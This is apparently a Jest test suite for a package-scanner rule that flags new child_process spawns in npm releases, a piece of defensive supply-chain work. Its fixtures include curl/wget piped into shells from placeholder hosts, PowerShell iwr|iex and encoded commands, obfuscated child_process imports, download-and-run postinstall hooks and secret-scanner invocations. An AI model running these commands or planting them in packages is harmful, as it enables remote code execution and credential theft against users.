import { describe, expect, it } from '@jest/globals'
import { rule } from '../../../src/rules/content/process-spawn.js'
import type { Finding } from '../../../src/types.js'
import { makeChange, makeContext, makeFiles, makeManifest } from '../../helpers/factories.js'

const OLD_INDEX =
  "'use strict'\nmodule.exports = function greet(name) {\n  return 'hi ' + name\n}\n"
const PKG = (scripts: Record<string, string> = {}) =>
  JSON.stringify({ name: 'example-pkg', version: '1.0.1', scripts }, null, 2)

function changed(oldFiles: Record<string, string>, newFiles: Record<string, string>) {
  const scripts = (files: Record<string, string>) =>
    (JSON.parse(files['package.json'] ?? '{}') as { scripts?: Record<string, string> }).scripts
  return makeContext({
    files: makeFiles(newFiles),
    previousFiles: makeFiles(oldFiles),
    manifest: makeManifest({ scripts: scripts(newFiles) ?? {} }),
    previousManifest: makeManifest({ version: '1.0.0', scripts: scripts(oldFiles) ?? {} })
  })
}

function added(files: Record<string, string>, name = 'example-pkg') {
  return makeContext({
    change: makeChange({ name, previousVersion: null }),
    files: makeFiles(files)
  })
}

const worst = (findings: Finding[]) => findings[0]?.severity

describe('content/process-spawn', () => {
  it.each([
    [
      'curl piped into sh from a new child_process call',
      "const cp = require('child_process')\ncp.execSync('curl -fsSL https://dl.example.test/x.sh | sh')\n",
      'high',
      'downloads code and runs it'
    ],
    [
      'wget -O- piped into bash',
      "const { exec } = require('child_process')\nexec('wget -qO- http://203.0.113.9/p | bash')\n",
      'high',
      'downloads code and runs it'
    ],
    [
      'PowerShell iwr piped into iex',
      "const { spawn } = require('child_process')\nspawn('powershell', ['-c', 'iwr https://x.test/a.ps1 | iex'])\n",
      'high',
      'downloads code and runs it'
    ],
    [
      'a secret scanner',
      "const cp = require('child_process')\ncp.execFileSync('./trufflehog', ['filesystem', '/'])\n",
      'high',
      'secret scanner'
    ],
    [
      'rundll32 on a shipped DLL',
      "const cp = require('chi' + 'ld_pro' + 'cess')\ncp.spawn('rundll32', ['lib/node-gyp.dll,main'])\n",
      'high',
      'Windows loader'
    ],
    [
      'an encoded PowerShell command',
      "const cp = require('child_process')\ncp.exec('powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A')\n",
      'high',
      'encoded PowerShell'
    ],
    [
      'a hidden child_process import',
      "const m = require('chi' + 'ld_pro' + 'cess')\nmodule.exports = m\n",
      'high',
      'hidden name'
    ],
    [
      'a plain new spawn of an unknown binary',
      "const { spawn } = require('child_process')\nspawn('/tmp/.cache/agent', ['--daemon'])\n",
      'medium',
      'starts new processes'
    ],
    [
      'a new spawn of git',
      "const { spawn } = require('child_process')\nspawn('git', ['status'])\n",
      'low',
      'starts new processes'
    ]
  ])('changed package: fires on %s', async (_name, code, severity, words) => {
    const ctx = changed(
      { 'package.json': PKG(), 'index.js': OLD_INDEX },
      { 'package.json': PKG(), 'index.js': OLD_INDEX, 'lib/run.js': code }
    )
    const findings = await rule.check(ctx)
    expect(worst(findings)).toBe(severity)
    expect(findings[0]?.ruleId).toBe('content/process-spawn')
    expect(findings[0]?.message).toContain(words)
    expect(findings[0]?.evidence[0]).toMatchObject({ file: 'lib/run.js' })
    expect(findings[0]?.evidence[0]?.line).toBeGreaterThan(0)
  })

  it.each([
    ['swift', "execFileSync('swift', ['package', '--package-path', root, 'dump-package'])", 'low'],
    ['tar', "execFileSync('tar', ['-xzf', archive, '-C', dir], { stdio: 'pipe' })", 'low'],
    ['make', "execSync('make -j4')", 'low'],
    ['docker', "spawn('docker', ['build', '.'])", 'low'],
    ['the running Node', "execFileSync(process.execPath, [bin, 'resolve'])", 'low'],
    ['the running Node, arguments on the next line', 'execFileSync(\n  process.execPath,', 'low'],
    ['fork of a worker module', "fork(path.join(__dirname, 'worker.js'))", 'low'],
    ['python running a script', "spawn('python3', ['scripts/build.py'])", 'low'],
    ['python -c with inline code', "spawn('python3', ['-c', code])", 'medium'],
    [
      'python -c of a decoded payload',
      "spawn('python3', ['-c', Buffer.from(p, 'base64').toString()])",
      'medium'
    ],
    [
      'powershell running a file',
      "spawn('powershell', ['-ExecutionPolicy', 'Bypass', '-File', f])",
      'low'
    ],
    ['powershell -e of base64', "spawn('powershell', ['-e', payload])", 'medium'],
    ['tar with a decoded argument', "execFileSync('tar', [atob(a)])", 'medium']
  ])('changed package: a new spawn of %s is %s', async (_name, call, severity) => {
    const code = `const { spawn, execSync, execFileSync, fork } = require('child_process')\n${call}\n`
    const ctx = changed(
      { 'package.json': PKG(), 'index.js': OLD_INDEX },
      { 'package.json': PKG(), 'index.js': OLD_INDEX, 'lib/run.js': code }
    )
    expect(worst(await rule.check(ctx))).toBe(severity)
  })

  it('is critical for download-and-run in a new install script, with the package.json line', async () => {
    const ctx = changed(
      { 'package.json': PKG(), 'index.js': OLD_INDEX },
      {
        'package.json': PKG({ postinstall: 'curl -s https://x.test/i.sh | bash' }),
        'index.js': OLD_INDEX
      }
    )
    const findings = await rule.check(ctx)
    expect(findings[0]).toMatchObject({ severity: 'critical' })
    expect(findings[0]?.evidence[0]).toMatchObject({ file: 'package.json', line: 5 })
  })

  it('is critical for a runtime install in a file an install script runs (Shai-Hulud 2.0 shape)', async () => {
    const setup = [
      "const { execSync, spawn } = require('child_process')",
      "execSync('curl -fsSL https://bun.sh/install | bash')",
      "spawn('bun', ['bun_environment.js'])",
      "execSync('bun run bun_environment.js')"
    ].join('\n')
    const ctx = changed(
      { 'package.json': PKG(), 'index.js': OLD_INDEX },
      {
        'package.json': PKG({ preinstall: 'node setup_bun.js' }),
        'index.js': OLD_INDEX,
        'setup_bun.js': setup
      }
    )
    const findings = await rule.check(ctx)
    expect(findings[0]?.severity).toBe('critical')
    const runtime = findings.find((finding) => finding.message.includes('runtime'))
    expect(runtime?.message).toContain('runs a payload')
  })

  it('scans introduced lines of shell scripts', async () => {
    const ctx = changed(
      { 'package.json': PKG(), 'scripts/setup.sh': '#!/bin/sh\necho ok\n' },
      {
        'package.json': PKG(),
        'scripts/setup.sh': '#!/bin/sh\necho ok\ngitleaks detect --no-git -v\n'
      }
    )
    const findings = await rule.check(ctx)
    expect(findings[0]).toMatchObject({ severity: 'high' })
    expect(findings[0]?.evidence[0]).toMatchObject({ file: 'scripts/setup.sh', line: 3 })
  })

  it.each([
    [
      'a command string in a file that cannot spawn',
      { 'index.js': "module.exports = 'install with: curl -fsSL https://x.test/i.sh | sh'\n" }
    ],
    ['a comment in a shell script', { 'setup.sh': '#!/bin/sh\n# curl https://x.test | sh\n' }],
    [
      'a RegExp exec in a file with no process module',
      { 'index.js': 'const m = /a(b)/.exec(input)\nmodule.exports = m\n' }
    ],
    [
      'rundll32 used to open a URL',
      {
        'index.js':
          "const cp = require('child_process')\nmodule.exports = (u) => cp.spawn('rundll32', ['url.dll,FileProtocolHandler', u])\n"
      }
    ]
  ])('stays below medium on %s', async (_name, files) => {
    const oldFiles = { 'package.json': PKG(), 'index.js': OLD_INDEX }
    const findings = await rule.check(changed(oldFiles, { 'package.json': PKG(), ...files }))
    expect(
      findings.filter((finding) => ['critical', 'high', 'medium'].includes(finding.severity))
    ).toEqual([])
  })

  it('does not report a spawn the previous version already had', async () => {
    const cli = "const { spawn } = require('child_process')\nspawn('git', ['log'])\n"
    const ctx = changed(
      { 'package.json': PKG(), 'cli.js': cli },
      { 'package.json': PKG(), 'cli.js': `${cli}console.log('done')\n` }
    )
    expect(await rule.check(ctx)).toEqual([])
  })

  it('does not report an install script that did not change', async () => {
    const pkg = PKG({ postinstall: 'curl -s https://x.test/i.sh | bash' })
    const ctx = changed(
      { 'package.json': pkg, 'index.js': OLD_INDEX },
      { 'package.json': pkg, 'index.js': `${OLD_INDEX}// v2\n` }
    )
    expect(await rule.check(ctx)).toEqual([])
  })

  it('lowers a new spawn to low when the package already spawned processes', async () => {
    const ctx = changed(
      { 'package.json': PKG(), 'a.js': "require('child_process').spawn('git', ['log'])\n" },
      {
        'package.json': PKG(),
        'a.js': "require('child_process').spawn('git', ['log'])\n",
        'b.js': "require('child_process').spawn('make', ['all'])\n"
      }
    )
    expect(worst(await rule.check(ctx))).toBe('low')
  })

  it.each([
    [
      'a process manager (plain spawn)',
      {
        'index.js': "const { fork } = require('child_process')\nmodule.exports = (f) => fork(f)\n"
      },
      'info'
    ],
    [
      'curl | sh in a postinstall',
      { 'package.json': PKG({ postinstall: 'curl -s https://x.test/i | sh' }) },
      'high'
    ],
    [
      'curl | sh in a helper script not run at install',
      { 'tools/get.sh': '#!/bin/sh\ncurl -sSf https://x.test/rustup.sh | sh\n' },
      'medium'
    ],
    [
      'a secret scanner',
      { 'index.js': "require('child_process').execSync('trufflehog filesystem ~')\n" },
      'high'
    ]
  ])('added package: grades %s', async (_name, files, severity) => {
    const findings = await rule.check(added({ 'package.json': PKG(), ...files }))
    expect(worst(findings)).toBe(severity)
    expect(findings[0]?.message).toMatch(/^The package /)
  })

  it('treats a secret-scanner wrapper package as low', async () => {
    const files = {
      'package.json': PKG(),
      'index.js': "require('child_process').spawnSync('gitleaks', process.argv.slice(2))\n"
    }
    expect(worst(await rule.check(added(files, 'gitleaks-bin')))).toBe('low')
  })
})
